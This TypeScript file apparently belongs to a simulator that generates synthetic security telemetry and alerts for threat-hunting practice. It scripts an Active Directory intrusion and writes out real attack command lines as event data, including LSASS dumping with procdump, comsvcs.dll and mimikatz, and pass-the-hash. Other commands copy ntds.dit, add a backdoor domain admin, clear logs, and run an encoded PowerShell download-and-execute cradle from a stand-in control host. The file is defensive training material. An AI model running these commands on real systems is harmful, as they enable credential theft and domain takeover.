// Story two: a poisoned tool at an engineer's desk, stolen credentials, and a walk through the domain to its controllers.

import { type Account, domain } from '../company/accounts.js';
import type { Device } from '../company/devices.js';
import { office, website } from '../company/network.js';
import { foreignProgram, hashesOf, program } from '../company/software.js';
import { downLevelName, Machine, profileOf } from '../machines/machine.js';
import type { Process } from '../machines/process.js';
import { defenderDeed } from '../noise/cloud.js';
import { chromeOnWindows } from '../noise/user-agents.js';
import { hour, type Moment, minute, second } from '../timeline.js';
import type { PlannedAction, World } from '../world.js';
import { encodeCommand, type Story, sessionAt } from './story.js';

const controlServer = { ip: '192.0.2.77', port: 8443, url: 'telemetry-lens.example' };
const poisonedSite = 'tools.spectra-free.example';

const installer = foreignProgram('SpectraViewSetup.exe', '%USERPROFILE%\\Downloads', {
  originalName: 'SpectraViewSetup.exe',
  product: 'SpectraView',
  version: '4.1',
});
const loader = foreignProgram('spectrasvc.exe', '%USERPROFILE%\\AppData\\Local\\SpectraView', {
  originalName: 'spectrasvc.exe',
});
const dumper = foreignProgram('mk64.exe', 'C:\\Windows\\Temp', {
  originalName: 'mimikatz.exe',
  internalName: 'mimikatz',
  product: 'mimikatz',
  version: '2.2.0.0',
  description: 'mimikatz for Windows',
});
const collector = foreignProgram('sharp.exe', 'C:\\Windows\\Temp', {
  originalName: 'SharpHound.exe',
  internalName: 'SharpHound.exe',
  version: '1.1.1',
});
const ticketTool = foreignProgram('rb.exe', 'C:\\Windows\\Temp', {
  originalName: 'Rubeus.exe',
  internalName: 'Rubeus.exe',
  version: '1.0.0.0',
});

/** The account that the attackers add, named like a help desk's. */
const addedAccount: Account = {
  name: 'svc_helpdesk2',
  domain: domain.name,
  sid: `${domain.sid}-4411`,
  upn: `svc_helpdesk2@${domain.dns}`,
  objectId: '',
  displayName: 'svc_helpdesk2',
  kind: 'administrator',
};

export const credentialTheft: Story = {
  title: 'Credential theft and lateral movement (six to four days ago)',
  summary: `A downloaded SpectraViewSetup.exe, run despite SmartScreen; LSASS is dumped with procdump and comsvcs.dll, hives
are saved; a burst of failed logons on QF-ADM-01 ends in a success; pass-the-hash, WMI, PsExec and remote tasks lead to
the domain controller, where ntds.dit is copied; ${addedAccount.name} becomes a domain admin and logs are cleared.
Hunt: OpenProcessApiCall on lsass.exe, LogonFailed by RemoteIP, DeviceLogonEvents with NTLM, ntdsutil,
"Group Membership changed" in IdentityDirectoryEvents, SecurityLogCleared.`,
  needs: (company) => [company.desk('Engineering', 2).device],
  plan(world): PlannedAction[] {
    const { timeline } = world;
    let implant: Process | undefined;
    const running = (): Process => {
      if (!implant) throw new Error('story: expected the implant to run, found that it was not started');
      return implant;
    };
    return [
      { at: timeline.daysAgo(6, 11, 5), run: (at) => (implant = installTool(world, at)) },
      { at: timeline.daysAgo(6, 13, 45), run: (at) => stealCredentials(world, at, running()) },
      { at: timeline.daysAgo(6, 15, 10), run: (at) => mapTheDomain(world, at, running()) },
      { at: timeline.daysAgo(6, 15, 50), run: (at) => guessPasswords(world, at, running()) },
      { at: timeline.daysAgo(6, 21, 5), run: (at) => passTheHash(world, at, running()) },
      { at: timeline.daysAgo(5, 1, 20), run: (at) => takeTheController(world, at) },
      { at: timeline.daysAgo(5, 2, 40), run: (at) => addAdministrator(world, at) },
      { at: timeline.daysAgo(4, 3, 15), run: (at) => coverTracks(world, at) },
    ];
  },
};

const victimOf = (world: World) => world.company.desk('Engineering', 2);

function stolen(world: World): Account {
  const account = world.company.administrators[1];
  if (!account) throw new Error('story: expected two administrators, found fewer');
  return account;
}

function installTool(world: World, at: Moment): Process {
  const { device, person } = victimOf(world);
  const { machine, session } = sessionAt(world, device);
  const browser = session.open.get('msedge.exe') ?? session.shell;
  const url = `https://${poisonedSite}/download/${installer.fileName}`;
  const folder = `${profileOf(person.account)}\\Downloads`;
  const activity = '2f6f8b0a-0d6e-4a53-8d55-6b1e3f0c9a41';
  machine.connect(at, browser, { to: website(poisonedSite) });
  machine.event(
    at + 2 * second,
    'SmartScreenUrlWarning',
    browser,
    { RemoteUrl: url },
    { Experience: 'Malicious', ActivityId: activity },
  );
  machine.file(at + 9 * second, browser, {
    folder,
    name: installer.fileName,
    content: installer,
    size: installer.size,
    originUrl: url,
    referrerUrl: `https://${poisonedSite}/`,
    originIp: website(poisonedSite).ip,
  });
  const target = { ...Machine.fileColumns(installer, person.account), FileOriginUrl: url };
  machine.event(at + 30 * second, 'SmartScreenAppWarning', session.shell, target, {
    Experience: 'Malicious',
    ActivityId: activity,
  });
  machine.event(at + 36 * second, 'SmartScreenUserOverride', session.shell, target, {
    Experience: 'Malicious',
    ActivityId: activity,
  });
  const setup = machine.start(at + 40 * second, {
    parent: session.shell,
    program: installer,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
  });
  machine.file(at + 44 * second, setup, {
    folder: `${profileOf(person.account)}\\AppData\\Local\\SpectraView`,
    name: loader.fileName,
    content: loader,
    size: loader.size,
  });
  machine.registry(at + 46 * second, setup, {
    key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\SpectraSvc',
    name: 'ImagePath',
    type: 'ExpandString',
    data: `${profileOf(person.account)}\\AppData\\Local\\SpectraView\\${loader.fileName}`,
  });
  machine.event(
    at + 46 * second,
    'ServiceInstalled',
    machine.service('services.exe'),
    Machine.fileColumns(loader, person.account),
    { ServiceName: 'SpectraSvc', ServiceAccount: 'LocalSystem', ServiceStartType: '2' },
  );
  const implant = machine.start(at + 50 * second, { parent: setup, program: loader });
  for (let call = at + minute; call < at + 14 * hour; call += 9 * minute + machine.random.below(120) * second)
    machine.connect(call, implant, { to: controlServer });
  machine.start(at + 70 * second, {
    parent: implant,
    program: 'netsh.exe',
    commandLine: 'netsh firewall add allowedprogram program=C:\\Windows\\Temp\\spectrasvc.exe name=Spectra mode=ENABLE',
  });
  machine.event(
    at + 5 * minute,
    'AmsiScriptDetection',
    implant,
    {},
    { Description: 'A script loaded a tool for stealing credentials', ThreatName: 'HackTool:PowerShell/Mikatz' },
  );
  return implant;
}

function stealCredentials(world: World, at: Moment, implant: Process): void {
  const { device, person } = victimOf(world);
  const machine = world.machine(device);
  const lsass = Machine.targetColumns(machine.service('lsass.exe'));
  const shell = machine.start(at, { parent: implant, program: 'cmd.exe', commandLine: 'cmd.exe' });
  machine.start(at + 5 * second, { parent: shell, program: 'whoami.exe', commandLine: 'whoami /priv' });
  machine.start(at + 9 * second, {
    parent: shell,
    program: 'reg.exe',
    commandLine:
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
  });
  machine.registry(at + 9 * second, shell, {
    key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest',
    name: 'UseLogonCredential',
    type: 'Dword',
    data: '1',
    previous: '0',
  });
  const procdump = machine.start(at + minute, {
    parent: shell,
    program: 'procdump64.exe',
    commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp',
  });
  machine.event(at + minute + second, 'OpenProcessApiCall', procdump, lsass, { DesiredAccess: 2_097_151 });
  machine.event(at + minute + 2 * second, 'ReadProcessMemoryApiCall', procdump, lsass, {
    TotalBytesCopied: 58_720_256,
  });
  machine.load(at + minute + second, procdump, 'dbghelp.dll');
  machine.file(at + minute + 4 * second, procdump, { folder: 'C:\\Windows\\Temp', name: 'ls.dmp', size: 58_941_112 });
  const powershell = machine.start(at + 3 * minute, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: `powershell.exe -ep bypass -EncodedCommand ${encodeCommand('rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id C:\\Windows\\Temp\\c.bin full')}`,
  });
  const dump = machine.start(at + 3 * minute + 2 * second, {
    parent: powershell,
    program: 'rundll32.exe',
    commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${machine.service('lsass.exe').id} C:\\Windows\\Temp\\c.bin full`,
  });
  machine.load(at + 3 * minute + 2 * second, dump, 'comsvcs.dll');
  machine.event(at + 3 * minute + 3 * second, 'OpenProcessApiCall', dump, lsass, { DesiredAccess: 2_097_151 });
  machine.event(at + 3 * minute + 3 * second, 'AsrLsassCredentialTheftAudited', dump, lsass, {
    IsAudit: true,
    RuleId: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2',
  });
  machine.file(at + 3 * minute + 5 * second, dump, { folder: 'C:\\Windows\\Temp', name: 'c.bin', size: 58_941_340 });
  machine.file(at + 6 * minute, implant, {
    folder: dumper.folder,
    name: dumper.fileName,
    content: dumper,
    size: dumper.size,
  });
  const mimikatz = machine.start(at + 7 * minute, {
    parent: shell,
    program: dumper,
    commandLine: 'mk64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
  });
  for (const library of ['samlib.dll', 'vaultcli.dll', 'cryptdll.dll'])
    machine.load(at + 7 * minute + second, mimikatz, library);
  machine.event(at + 7 * minute + 2 * second, 'OpenProcessApiCall', mimikatz, lsass, { DesiredAccess: 5136 });
  machine.event(
    at + 8 * minute,
    'AntivirusDetection',
    machine.service('MsMpEng.exe'),
    { ...Machine.fileColumns(dumper, person.account), FileOriginUrl: '' },
    {
      ThreatName: 'HackTool:Win32/Mimikatz.D',
      WasRemediated: false,
      Action: 'Quarantine',
      ReportSource: 'Windows Defender',
    },
  );
  for (const hive of ['sam', 'security', 'system'] as const) {
    const saver = machine.start(at + 10 * minute, {
      parent: shell,
      program: 'reg.exe',
      commandLine: `reg save hklm\\${hive} C:\\Windows\\Temp\\${hive}.sv`,
    });
    machine.file(at + 10 * minute + second, saver, { folder: 'C:\\Windows\\Temp', name: `${hive}.sv`, size: 65_536 });
  }
  machine.start(at + 11 * minute, {
    parent: shell,
    program: 'esentutl.exe',
    commandLine: `esentutl.exe /r V01 /l"${profileOf(person.account)}\\AppData\\Local\\Microsoft\\Windows\\WebCache" /s"${profileOf(person.account)}\\AppData\\Local\\Microsoft\\Windows\\WebCache" /d"C:\\Windows\\Temp"`,
  });
  machine.registry(at + 12 * minute, shell, {
    key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
    name: 'Debugger',
    data: 'C:\\Windows\\System32\\cmd.exe',
  });
  const raise = (delay: Moment, title: string, severity: 'Medium' | 'High', technique: string, process: Process) =>
    world.alerts.raise(at + delay, {
      title,
      category: 'CredentialAccess',
      severity,
      techniques: [technique],
      device,
      account: person.account,
      process,
    });
  raise(2 * minute, 'Suspicious access to LSASS service', 'High', 'LSASS Memory (T1003.001)', procdump);
  raise(9 * minute, "'Mimikatz' hacktool was detected", 'High', 'OS Credential Dumping (T1003)', mimikatz);
  raise(13 * minute, 'Sticky Keys binary hijack detected', 'Medium', 'Accessibility Features (T1546.008)', shell);
}

function mapTheDomain(world: World, at: Moment, implant: Process): void {
  const { device, person } = victimOf(world);
  const machine = world.machine(device);
  const controller = world.company.server('domain-controller');
  machine.file(at, implant, {
    folder: collector.folder,
    name: collector.fileName,
    content: collector,
    size: collector.size,
  });
  const hound = machine.start(at + 5 * second, {
    parent: implant,
    program: collector,
    commandLine: 'sharp.exe -CollectionMethod All -d quillfen.example --zipfilename map.zip',
  });
  machine.connect(at + 7 * second, hound, { to: { ip: controller.ip, port: 389, url: controller.name } });
  machine.event(
    at + 8 * second,
    'LdapSearch',
    hound,
    {},
    {
      AttributeList: ['objectSid', 'memberOf'],
      ScopeOfSearch: 'SubTree',
      SearchFilter: '(&(samAccountType=805306368)(servicePrincipalName=*))',
      DistinguishedName: domain.distinguishedName,
    },
  );
  machine.start(at + 3 * second, {
    parent: implant,
    program: foreignProgram('nbtscan.exe', 'C:\\Windows\\Temp'),
    commandLine: 'nbtscan.exe 10.20.1.0/24',
  });
  for (const [index, { device: other }] of world.machines.entries())
    if (other !== device)
      for (const port of [445, 135])
        machine.connect(at + 10 * second + index * 2 * second, hound, {
          to: { ip: other.ip, port, url: other.name },
          action: index % 5 === 0 ? 'ConnectionFailed' : 'ConnectionSuccess',
        });
  for (const port of [21, 22, 25, 53, 80, 110, 139, 389, 443, 636, 8080])
    for (let host = 10; host < 22; host++)
      machine.connect(at + 3 * minute + (port % 50) * second, hound, {
        to: { ip: `10.20.1.${host}`, port, url: '' },
        action: port === 389 || port === 443 ? 'ConnectionSuccess' : 'ConnectionFailed',
      });
  machine.file(at + 5 * minute, hound, { folder: 'C:\\Windows\\Temp', name: 'map.zip' });
  for (const [type, query] of [
    ['QueryUser', '(&(objectClass=user)(adminCount=1))'],
    ['QueryComputer', '(userAccountControl:1.2.840.113556.1.4.803:=8192)'],
    ['QueryGroup', '(cn=Domain Admins)'],
    ['AllDomains', '(objectClass=trustedDomain)'],
  ] as const)
    world.identity.query(at + 20 * second, {
      by: person.account,
      from: device,
      to: controller,
      type,
      target: 'Many objects',
      query,
    });
  world.identity.query(at + 40 * second, {
    by: person.account,
    from: device,
    to: controller,
    type: 'EnumerateUsers',
    target: 'Domain Admins',
    query: '',
    protocol: 'Samr',
    targetAccount: stolen(world),
  });
  const roast = machine.start(at + 9 * minute, {
    parent: implant,
    program: ticketTool,
    commandLine: 'rb.exe kerberoast /outfile:C:\\Windows\\Temp\\h.txt',
  });
  for (const service of [world.company.services.sql, world.company.services.web])
    world.identity.logon(at + 9 * minute + 2 * second, {
      account: person.account,
      from: device,
      to: controller,
      additional: { Spns: `MSSQLSvc/${service.name}`, EncryptionType: 'Rc4Hmac', Category: 'Credential Access' },
    });
  world.alerts.raise(at + 12 * minute, {
    title: 'Suspicious LDAP query',
    category: 'Discovery',
    severity: 'Medium',
    service: 'Microsoft Defender for Identity',
    techniques: ['Kerberoasting (T1558.003)'],
    device,
    account: person.account,
    process: roast,
  });
}

/** A burst of failures over many accounts, then one success. */
function guessPasswords(world: World, at: Moment, implant: Process): void {
  const { device } = victimOf(world);
  const origin = world.machine(device);
  const target = world.machine(world.company.server('jump-server'));
  const names = world.company.people.slice(0, 34).map(({ account }) => account);
  const prize = stolen(world);
  let moment = at;
  for (let attempt = 0; attempt < 170; attempt++) {
    moment += Math.floor((1 + origin.random.next() * 3) * second);
    const account = attempt % 4 === 0 ? prize : (names[attempt % names.length] ?? prize);
    target.logon(moment, {
      account,
      type: 'Network',
      protocol: 'NTLM',
      from: { ip: device.ip, device: device.host },
      failure: attempt % 23 === 22 ? 'AccountLocked' : 'InvalidUserNameOrPassword',
      localAdmin: false,
    });
    world.identity.logon(moment, {
      account,
      from: device,
      to: target.device,
      protocol: 'Ntlm',
      failure: 'WrongPassword',
    });
    if (attempt % 10 === 0)
      origin.connect(moment, implant, { to: { ip: target.device.ip, port: 445, url: target.device.name } });
  }
  moment += 4 * second;
  target.logon(moment, {
    account: prize,
    type: 'Network',
    protocol: 'NTLM',
    from: { ip: device.ip, device: device.host },
    localAdmin: true,
  });
  world.identity.logon(moment, { account: prize, from: device, to: target.device, protocol: 'Ntlm' });
  world.identity.change(moment + 3 * minute, {
    action: 'Account Password changed',
    by: prize,
    from: device,
    on: world.company.server('domain-controller'),
    targetAccount: prize,
  });
  world.alerts.raise(moment + 5 * minute, {
    title: 'Suspected brute-force attack (NTLM)',
    category: 'CredentialAccess',
    severity: 'Medium',
    service: 'Microsoft Defender for Identity',
    techniques: ['Password Spraying (T1110.003)'],
    device: target.device,
    account: prize,
    ip: device.ip,
  });
}

/** The hash of an administrator opens the servers: WMI, PsExec and remote tasks, one each. */
function passTheHash(world: World, at: Moment, implant: Process): void {
  const { device, person } = victimOf(world);
  const origin = world.machine(device);
  const account = stolen(world);
  const shell = origin.start(at, {
    parent: implant,
    program: dumper,
    commandLine: `mk64.exe "sekurlsa::pth /user:${account.name} /domain:${domain.dns} /ntlm:${hashesOf('the administrator').md5} /run:cmd.exe" exit`,
  });
  const console = origin.start(at + 2 * second, { parent: shell, program: 'cmd.exe', commandLine: 'cmd.exe' });
  origin.logon(at + 2 * second, {
    account,
    type: 'NewCredentials',
    protocol: 'Negotiate',
    localAdmin: true,
    by: origin.service('svchost.exe', 'svchost.exe -k netsvcs -p -s seclogon'),
  });
  const [database, print, jump] = (['database-server', 'print-server', 'jump-server'] as const).map((role) =>
    world.company.server(role),
  );
  if (!database || !print || !jump) throw new Error('story: expected three servers');

  const wmic = origin.start(at + 2 * minute, {
    parent: console,
    program: 'WMIC.exe',
    commandLine: `wmic /node:"${database.ip}" /user:"${downLevelName(account)}" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"`,
  });
  origin.connect(at + 2 * minute + second, wmic, { to: { ip: database.ip, port: 135, url: database.name } });
  const onDatabase = arrive(world, at + 2 * minute + second, database, account, device);
  const host = onDatabase.service('WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding');
  const remote = onDatabase.start(at + 2 * minute + 2 * second, {
    parent: host,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt',
    account,
    integrity: 'High',
  });
  onDatabase.event(at + 2 * minute + 2 * second, 'RemoteWmiOperation', host, {
    RemoteIP: device.ip,
    RemoteDeviceName: device.name,
    AccountName: account.name,
    AccountSid: account.sid,
  });
  onDatabase.start(at + 2 * minute + 3 * second, { parent: remote, program: 'whoami.exe', commandLine: 'whoami' });
  onDatabase.start(at + 2 * minute + 9 * second, {
    parent: host,
    program: 'powershell.exe',
    commandLine: `powershell.exe -enc ${encodeCommand(`IEX (New-Object Net.WebClient).DownloadString('https://${controlServer.url}:8443/s'); Get-ADComputer -Filter *; net user`)}`,
    account,
    integrity: 'High',
  });

  const psexec = origin.start(at + 7 * minute, {
    parent: console,
    program: 'PsExec.exe',
    commandLine: `PsExec.exe -accepteula \\\\${print.host} -s cmd.exe /c "net localgroup administrators"`,
  });
  origin.connect(at + 7 * minute + second, psexec, { to: { ip: print.ip, port: 445, url: print.name } });
  const onPrint = arrive(world, at + 7 * minute + second, print, account, device);
  const service = program('PSEXESVC.exe');
  onPrint.file(at + 7 * minute + 2 * second, onPrint.service('ntoskrnl.exe'), {
    folder: service.folder,
    name: service.fileName,
    content: service,
    size: service.size,
    request: { account, ip: device.ip, share: 'ADMIN$' },
  });
  const runner = onPrint.start(at + 7 * minute + 3 * second, {
    parent: onPrint.service('services.exe'),
    program: service,
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
  });
  const onPrintShell = onPrint.start(at + 7 * minute + 4 * second, {
    parent: runner,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c "net localgroup administrators"',
  });
  onPrint.start(at + 7 * minute + 5 * second, {
    parent: onPrintShell,
    program: 'net.exe',
    commandLine: 'net localgroup administrators',
  });

  const scheduler = origin.start(at + 12 * minute, {
    parent: console,
    program: 'schtasks.exe',
    commandLine: `schtasks /create /s ${jump.host} /tn Defrag2 /tr "C:\\Windows\\Temp\\spectrasvc.exe" /sc once /st 21:30 /ru SYSTEM`,
  });
  origin.connect(at + 12 * minute + second, scheduler, { to: { ip: jump.ip, port: 49_667, url: jump.name } });
  const onJump = arrive(world, at + 12 * minute + second, jump, account, device);
  const schedule = onJump.service('svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule');
  onJump.file(at + 12 * minute + 2 * second, onJump.service('ntoskrnl.exe'), {
    folder: 'C:\\Windows\\Temp',
    name: loader.fileName,
    content: loader,
    size: loader.size,
    request: { account, ip: device.ip, share: 'C$' },
  });
  onJump.event(
    at + 12 * minute + 3 * second,
    'ScheduledTaskCreated',
    schedule,
    { RemoteDeviceName: device.name, RemoteIP: device.ip },
    {
      TaskName: '\\Defrag2',
      TaskContent: '<Exec><Command>C:\\Windows\\Temp\\spectrasvc.exe</Command></Exec>',
      SubjectUserSid: account.sid,
    },
  );
  onJump.start(at + 25 * minute, { parent: schedule, program: { ...loader, folder: 'C:\\Windows\\Temp' } });
  world.identity.change(at + 13 * minute, {
    action: 'Potential lateral movement path identified',
    by: account,
    from: device,
    on: world.company.server('domain-controller'),
    targetAccount: account,
    additional: { 'FROM.ACCOUNT': person.account.displayName },
  });
  world.alerts.raise(at + 15 * minute, {
    title: 'Successful logon using overpass-the-hash with potentially stolen credentials',
    category: 'LateralMovement',
    severity: 'High',
    techniques: ['Pass the Hash (T1550.002)'],
    device,
    account,
    process: shell,
  });
  world.alerts.raise(at + 16 * minute, {
    title: 'Suspicious transfer of an executable file',
    category: 'LateralMovement',
    severity: 'Medium',
    techniques: ['Lateral Tool Transfer (T1570)'],
    device: jump,
    account,
    file: { ...loader, folder: 'C:\\Windows\\Temp' },
  });
}

/** The network logon that remote execution leaves on the other computer. */
function arrive(world: World, at: Moment, target: Device, account: Account, from: Device): Machine {
  const machine = world.machine(target);
  machine.connect(at, machine.service('ntoskrnl.exe'), {
    action: 'InboundConnectionAccepted',
    to: { ip: from.ip, port: 52_311, url: '' },
    localPort: 445,
  });
  machine.logon(at, {
    account,
    type: 'Network',
    protocol: 'NTLM',
    from: { ip: from.ip, device: from.host },
    localAdmin: true,
  });
  world.identity.logon(at, { account, from, to: target, protocol: 'Ntlm', type: 'Resource access' });
  return machine;
}

function takeTheController(world: World, at: Moment): void {
  const jump = world.company.server('jump-server');
  const controller = world.company.server('domain-controller');
  const account = stolen(world);
  const machine = arrive(world, at, controller, account, jump);
  const host = machine.service('wsmprovhost.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding');
  const shell = machine.start(at + second, {
    parent: host,
    program: 'cmd.exe',
    commandLine: 'cmd.exe',
    account,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
    remote: { ip: jump.ip, device: jump.host },
  });
  const ntds = machine.start(at + 20 * second, {
    parent: shell,
    program: 'ntdsutil.exe',
    commandLine: 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
  });
  machine.start(at + 22 * second, {
    parent: machine.service('services.exe'),
    program: 'VSSVC.exe',
    commandLine: 'C:\\Windows\\system32\\vssvc.exe',
  });
  machine.file(at + 50 * second, ntds, {
    folder: 'C:\\Windows\\Temp\\ifm\\Active Directory',
    name: 'ntds.dit',
    size: 41_943_040,
  });
  machine.file(at + 51 * second, ntds, {
    action: 'FileModified',
    folder: 'C:\\Windows\\Temp\\ifm\\Active Directory',
    name: 'ntds.dit',
    size: 41_943_040,
  });
  machine.file(at + 52 * second, ntds, {
    folder: 'C:\\Windows\\Temp\\ifm\\registry',
    name: 'SYSTEM',
    size: 14_680_064,
  });
  machine.start(at + 3 * minute, {
    parent: shell,
    program: 'vssadmin.exe',
    commandLine: 'vssadmin create shadow /for=C:',
  });
  machine.start(at + 4 * minute, {
    parent: shell,
    program: 'cmd.exe',
    commandLine:
      'cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\n.dit',
  });
  world.identity.change(at + 30 * minute, {
    action: 'Directory Services replication',
    by: account,
    from: jump,
    on: controller,
    protocol: 'Drsr',
    additional: { Count: 412, 'TARGET_OBJECT.GROUP': 'All objects' },
  });
  world.alerts.raise(at + 31 * minute, {
    title: 'Suspected DCSync attack (replication of directory services)',
    category: 'CredentialAccess',
    severity: 'High',
    service: 'Microsoft Defender for Identity',
    techniques: ['DCSync (T1003.006)'],
    device: controller,
    account,
    ip: jump.ip,
  });
  world.alerts.raise(at + 6 * minute, {
    title: 'NTDS.dit copied',
    category: 'CredentialAccess',
    severity: 'High',
    techniques: ['NTDS (T1003.003)'],
    device: controller,
    account,
    process: ntds,
  });
}

function addAdministrator(world: World, at: Moment): void {
  const controller = world.company.server('domain-controller');
  const jump = world.company.server('jump-server');
  const account = stolen(world);
  const machine = arrive(world, at, controller, account, jump);
  const shell = machine.start(at + second, {
    parent: machine.service('wsmprovhost.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding'),
    program: 'cmd.exe',
    commandLine: 'cmd.exe',
    account,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
  });
  const net = (moment: Moment, commandLine: string) => {
    const parent = machine.start(moment, { parent: shell, program: 'net.exe', commandLine });
    machine.start(moment, {
      parent,
      program: 'net1.exe',
      commandLine: commandLine.replace('net ', 'C:\\Windows\\system32\\net1 '),
    });
  };
  net(at + 10 * second, `net user ${addedAccount.name} Wint3r-Lens! /add /domain`);
  machine.event(at + 11 * second, 'UserAccountCreated', machine.service('lsass.exe'), {
    AccountName: addedAccount.name,
    AccountDomain: addedAccount.domain,
    AccountSid: addedAccount.sid,
  });
  world.identity.change(at + 11 * second, {
    action: 'User Account Created',
    by: account,
    from: jump,
    on: controller,
    targetAccount: addedAccount,
  });
  net(at + 30 * second, `net group "Domain Admins" ${addedAccount.name} /add /domain`);
  world.identity.change(at + 31 * second, {
    action: 'Group Membership changed',
    by: account,
    from: jump,
    on: controller,
    targetAccount: addedAccount,
    additional: { 'TO.GROUP': 'Domain Admins', 'FROM.GROUP': '' },
  });
  net(at + 50 * second, `net localgroup administrators ${addedAccount.name} /add`);
  machine.event(
    at + 51 * second,
    'UserAccountAddedToLocalGroup',
    machine.service('lsass.exe'),
    { AccountName: addedAccount.name, AccountSid: addedAccount.sid },
    { GroupName: 'Administrators', GroupDomainName: 'Builtin', GroupSid: 'S-1-5-32-544' },
  );
  world.identity.change(at + 2 * minute, {
    action: 'Account Password Never Expires changed',
    by: account,
    from: jump,
    on: controller,
    targetAccount: addedAccount,
    additional: { 'FROM Account Password Never Expires': false, 'TO Account Password Never Expires': true },
  });
  world.identity.change(at + 6 * minute, {
    action: 'SAM Account Name changed',
    by: account,
    from: jump,
    on: controller,
    targetAccount: addedAccount,
    additional: { 'FROM SAM Account Name': 'QF-TMP$', 'TO SAM Account Name': 'QF-DC-01' },
  });
  world.identity.change(at + 8 * minute, {
    action: 'Account Supported Encryption Types changed',
    by: account,
    from: jump,
    on: controller,
    targetDevice: world.company.server('database-server'),
    additional: {
      'FROM AccountSupportedEncryptionTypes': 'Aes128, Aes256',
      'TO AccountSupportedEncryptionTypes': 'Rc4, Aes256',
    },
  });
  world.identity.change(at + 9 * minute, {
    action: 'Account Constrained Delegation changed',
    by: account,
    from: jump,
    on: controller,
    targetDevice: world.company.server('database-server'),
    additional: {
      'FROM AccountConstrainedDelegationState': 'False',
      'TO AccountConstrainedDelegationState': 'True',
      TargetComputerOperatingSystem: 'Windows Server 2019',
    },
  });
  const group = world.machine(jump);
  group.event(
    at + 10 * minute,
    'SecurityGroupCreated',
    group.service('lsass.exe'),
    {},
    { GroupName: 'Remote Tools', GroupDomainName: jump.host, GroupSid: 'S-1-5-21-91-22-13-1009' },
  );
  world.alerts.raise(at + 12 * minute, {
    title: 'Suspicious additions to sensitive groups',
    category: 'Persistence',
    severity: 'Medium',
    service: 'Microsoft Defender for Identity',
    techniques: ['Account Manipulation (T1098)'],
    device: controller,
    account: addedAccount,
  });
}

function coverTracks(world: World, at: Moment): void {
  const controller = world.machine(world.company.server('domain-controller'));
  const jump = world.company.server('jump-server');
  arrive(world, at, controller.device, addedAccount, jump);
  const shell = controller.start(at + second, {
    parent: controller.service('WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'),
    program: 'cmd.exe',
    commandLine: 'cmd.exe',
    account: addedAccount,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
  });
  for (const [index, log] of ['Security', 'System', 'Microsoft-Windows-PowerShell/Operational'].entries())
    controller.start(at + (index + 2) * second, {
      parent: shell,
      program: 'wevtutil.exe',
      commandLine: `wevtutil.exe clear-log ${log}`,
    });
  controller.event(at + 3 * second, 'SecurityLogCleared', shell, {
    AccountName: addedAccount.name,
    AccountDomain: addedAccount.domain,
    AccountSid: addedAccount.sid,
  });
  controller.start(at + 20 * second, {
    parent: shell,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c del /f /q C:\\Windows\\Temp\\*.dit',
  });
  controller.file(at + 21 * second, shell, { action: 'FileDeleted', folder: 'C:\\Windows\\Temp', name: 'n.dit' });
  world.alerts.raise(at + 2 * minute, {
    title: 'Event log was cleared',
    category: 'DefenseEvasion',
    severity: 'Medium',
    techniques: ['Clear Windows Event Logs (T1070.001)'],
    device: controller.device,
    account: addedAccount,
    process: shell,
  });
  const responder = world.company.administrators[0];
  if (responder)
    world.cloud.activity(at + 7 * hour, {
      ...defenderDeed('LiveResponseGetFile', {
        FileName: `${victimOf(world).device.name}: C:\\Windows\\Temp\\mk64.exe`,
        FileSHA256: dumper.sha256,
        DeviceName: victimOf(world).device.name,
      }),
      account: responder,
      place: office,
      userAgent: chromeOnWindows,
    });
}
